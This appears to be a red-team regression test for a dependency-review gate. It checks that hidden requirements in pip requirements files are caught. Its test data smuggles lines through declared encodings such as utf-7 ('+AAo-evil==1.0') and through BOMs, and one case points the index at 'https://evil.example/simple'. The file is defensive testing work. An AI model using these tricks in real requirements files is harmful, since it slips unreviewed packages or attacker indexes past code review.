"""Red team 16, deps: a requirements file read in another encoding than the one pip reads it in.

pip decodes a requirements file by its BOM (UTF-8, UTF-16, UTF-32), else by a PEP 263 declaration in its first two
lines (`# -*- coding: utf-7 -*-`), else as UTF-8. The delta read UTF-8 only, so a declared codec that reads ASCII
bytes differently hid a requirement in a comment: under `coding: utf-7` the line `flask==3.0.1  # pinned
+AAo-evil==1.0` is, for pip, `flask==3.0.1  # pinned` and a line `evil==1.0` (`+AAo-` is a line break); under
`unicode_escape` a literal `\\n` is one. Beside an in-level bump of flask the delta saw the bump alone: `gate --tree
--enable deps` said allow (exit 0) while pip installs a new package. The readers now decode as pip does (pip's own
parser is the truth every variant is compared with).

And a requirements file that is not UTF-8 at all (a Latin-1 comment, a UTF-16 file) stopped every `--tree` gate of
the repository with "internal error: ManifestError" (exit 2): red team 15's include reader let the error out.
"""

from __future__ import annotations

import contextlib
import io
import json
from pathlib import Path

import pytest

from gatekeeper.cli import main
from gatekeeper.deps.pypi import included_files, parse_requirements
from gatekeeper.deps.sources import patch_delta
from tests.gitrepo import GitRepo, two_commits

# setuptools first, when there is one: pip's parser imports distutils, and the stdlib's copy imported before
# setuptools' would be the one every later setuptools test in this process gets (tests/test_redteam14_lowering_proof).
with contextlib.suppress(ImportError):
    import setuptools  # noqa: F401
req_file = pytest.importorskip("pip._internal.req.req_file")
pip_session = pytest.importorskip("pip._internal.network.session")

EVIL_LINE = "flask==3.0.1  # pinned {hidden}\n"
# (codec declared, how a line break is hidden in a comment, how `-r tools/dev.txt` is hidden)
DECLARED = {
    "utf-7": ("+AAo-evil==1.0", "+AAo--r tools/dev.txt"),
    "unicode_escape": ("\\nevil==1.0", "\\n-r tools/dev.txt"),
    "raw_unicode_escape": ("\\u000aevil==1.0", "\\u000a-r tools/dev.txt"),
}


def _declared(codec: str, which: int) -> bytes:
    hidden = DECLARED[codec][which]
    return f"# -*- coding: {codec} -*-\n{EVIL_LINE.format(hidden=hidden)}".encode("ascii")


VARIANTS: dict[str, bytes] = {
    **{f"{codec} hides a requirement": _declared(codec, 0) for codec in DECLARED},
    **{f"{codec} hides an include": _declared(codec, 1) for codec in DECLARED},
    "utf-16 BOM": "flask==3.0.1\nevil==1.0\n".encode("utf-16"),
    "utf-32 BOM": "flask==3.0.1\nevil==1.0\n".encode("utf-32"),
    "utf-8 BOM": "flask==3.0.1\nevil==1.0\n".encode("utf-8-sig"),
    "latin-1 declared": "# coding: latin-1\nflask==3.0.1  # caf\u00e9\nevil==1.0\n".encode("latin-1"),
    "second line declaration": b"#!/usr/bin/env pip\n# vim: set fileencoding=utf-7 :\nflask==3.0.1 # +AAo-evil==1\n",
    "a declaration past line two is not one": b"\n\n# coding: utf-7\nflask==3.0.1 # +AAo-evil==1\n",
}


def _pip_reads(path: Path) -> list[str]:
    """What pip installs from `path` (and the files it includes): requirement names, sorted."""
    session = pip_session.PipSession()
    names = {str(r.requirement).partition("==")[0] for r in req_file.parse_requirements(str(path), session=session)}
    return sorted(names)


@pytest.mark.parametrize("variant", VARIANTS)
def test_the_delta_reads_what_pip_reads(tmp_path: Path, variant: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "tools").mkdir()
    (tmp_path / "tools/dev.txt").write_text("evil==1.0\n")
    (tmp_path / "requirements.txt").write_bytes(VARIANTS[variant])
    truth = _pip_reads(tmp_path / "requirements.txt")
    data = VARIANTS[variant]
    read = {d.name for d in parse_requirements("requirements.txt", data)}
    included = included_files("requirements.txt", data)
    if included:  # the included file's requirements are pip's too
        read |= {d.name for d in parse_requirements("tools/dev.txt", b"evil==1.0\n")}
        read.discard("tools/dev.txt")
    assert sorted(read) == truth, (variant, read, truth)


def _gate(repo: GitRepo, base: str, head: str) -> tuple[int, dict[str, object]]:
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        code = main(["gate", "--tree", f"{base}..{head}", "--repo", str(repo.root), "--format", "json",
                     "--enable", "deps"])
    return code, json.loads(out.getvalue())


@pytest.mark.parametrize(("hidden", "rule"), [("+AAo-evil==1.0", "deps.new_direct"),
                                             ("+AAo---index-url https://evil.example/simple", "deps.unreadable")])
def test_a_line_hidden_beside_a_bump_is_reviewed(tmp_path: Path, hidden: str, rule: str) -> None:
    declared = f"# -*- coding: utf-7 -*-\n{EVIL_LINE.format(hidden=hidden)}".encode("ascii")
    repo, base, head = two_commits(tmp_path / "repo", {"requirements.txt": b"flask==3.0.0\n"},
                             {"requirements.txt": declared})
    code, decision = _gate(repo, base, head)
    assert code == 3, decision["reasons"]
    assert rule in {r["rule"] for r in decision["reasons"]}  # type: ignore[union-attr]
    # From the patch alone (the declaration is in the hunk): the hidden line is seen too.
    patch = tmp_path / "change.diff"
    patch.write_bytes(repo.git("diff", "--binary", base, head))
    delta = patch_delta(patch)
    assert {c.name for c in delta.changes if c.change == "added"} == {"evil"} or delta.problems, delta


@pytest.mark.parametrize("data", [b"flask==3.0.0  # caf\xe9\n", "flask==3.0.0\n".encode("utf-16"),
                                  b"# coding: no-such-codec\nflask==3.0.0\n"], ids=["latin-1", "utf-16", "unknown"])
def test_a_requirements_file_pip_may_not_read_as_utf8_does_not_stop_the_gate(tmp_path: Path, data: bytes) -> None:
    repo, base, head = two_commits(tmp_path / "repo", {"requirements-dev.txt": data, "a.txt": b"x\n"},
                                   {"a.txt": b"y\n"})
    code, decision = _gate(repo, base, head)
    assert code == 0, decision


def test_an_include_in_a_latin1_requirements_file_is_followed(tmp_path: Path) -> None:
    repo, base, head = two_commits(tmp_path / "repo", {"requirements.txt": b"-r tools/dev.txt  # caf\xe9\n",
                                                 "tools/dev.txt": b"six==1.16.0\n"},
                             {"tools/dev.txt": b"six==1.16.0\nevil==1.0\n"})
    code, decision = _gate(repo, base, head)
    assert code == 3, decision
